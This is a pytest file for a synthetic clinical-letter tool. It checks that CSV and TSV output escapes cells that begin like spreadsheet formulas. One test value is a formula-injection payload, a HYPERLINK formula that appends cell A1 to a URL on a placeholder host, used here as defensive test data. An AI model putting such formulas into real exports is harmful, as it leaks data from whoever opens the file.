"""No cell of a CSV is a formula, where that is asked for; offsets fit the text as it is written."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from synletters import Letter, Rewrite, Span
from synletters.cli.main import main
from synletters.io import open_source, open_writer
from synletters.io.formulas import escaped


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1,5", "-cough", "@SUM(A1)", "\tx", "\r\nx", "＝1"])
def test_what_begins_like_a_formula_gets_an_apostrophe(value: str) -> None:
    assert escaped(value) == "'" + value


@pytest.mark.parametrize("value", ["cough", "", "'=1", "1-2", "-5", "+2.5e3", 5, -5, None, 1.5])
def test_anything_else_stays(value: object) -> None:
    assert escaped(value) is value


@pytest.mark.parametrize("name", ["out.csv", "out.tsv"])
def test_a_letter_that_begins_like_a_formula(name: str, tmp_path: Path) -> None:
    text = '=HYPERLINK("http://x/?"&A1) aspirin'
    letter = Rewrite(
        "=id",
        0,
        text,
        (Span(28, 35, "DRUG", "clinical"),),
        refilled=((28, 35),),
        columns={"ward": "@A", "bed": -3},
    )
    with open_writer(
        tmp_path / name, refilled=True, columns={"ward": "text", "bed": "int"}, escape=True
    ) as out:
        out.write(letter)
    with (tmp_path / name).open(newline="") as file:
        [row] = csv.DictReader(file, delimiter="\t" if name.endswith("tsv") else ",")
    assert (row["id"], row["ward"], row["bed"]) == ("'=id", "'@A", "-3")
    assert row["text"] == "'" + text
    [span] = json.loads(row["spans"])
    assert row["text"][span["start"] : span["end"]] == "aspirin"
    [[start, end]] = json.loads(row["refilled"])
    assert row["text"][start:end] == "aspirin"
    [read] = open_source(tmp_path / name)
    assert isinstance(read, Letter)
    assert read.text[read.spans[0].start : read.spans[0].end] == "aspirin"


def test_of_a_run_the_letters_and_the_id_map(tmp_path: Path) -> None:
    rows = [{"id": f"-L{i}", "text": f"=cough, seen on {i} March 2021"} for i in (1, 2)]

    def run(source: str, *more: str) -> int:
        (tmp_path / source).write_text("".join(json.dumps(row) + "\n" for row in rows))
        options = [
            "--detectors",
            "rules",
            "--strategy",
            "none",
            "--seed",
            "1",
            "--workers",
            "1",
            "--escape-formulas",
        ]
        return main(["rewrite", str(tmp_path / source), *more, *options])

    out = str(tmp_path / "out.csv")
    assert run("in.jsonl", out) == 0
    with (tmp_path / "out.csv").open(newline="") as file:
        assert all(
            row["text"].startswith("'=cough") and row["id"].startswith("'-L") for row in csv.DictReader(file)
        )
    rows.append({"id": "-L3", "text": "+cough"})
    assert run("more.jsonl", out, "--append") == 0
    with (tmp_path / "out.csv").open(newline="") as file:
        assert [row["id"] for row in csv.DictReader(file)] == ["'-L1", "'-L2", "'-L3"]
    assert run("in.jsonl", str(tmp_path / "b.csv"), "--id-map", str(tmp_path / "ids.csv")) == 0
    with (tmp_path / "ids.csv").open(newline="") as file:
        assert [row["id"] for row in csv.DictReader(file)] == ["'-L1", "'-L2", "'-L3"]


def test_records_and_letters_of_generate(tmp_path: Path) -> None:
    argv = [
        "generate",
        str(tmp_path / "out.csv"),
        "--world",
        "respiratory",
        "--count",
        "3",
        "--escape-formulas",
        "--quiet",
    ]
    assert main(argv) == 0
    for path in tmp_path.glob("*.csv"):
        with path.open(newline="") as file:
            assert not any(
                value.startswith(("=", "+", "-", "@")) for row in csv.reader(file) for value in row
            )
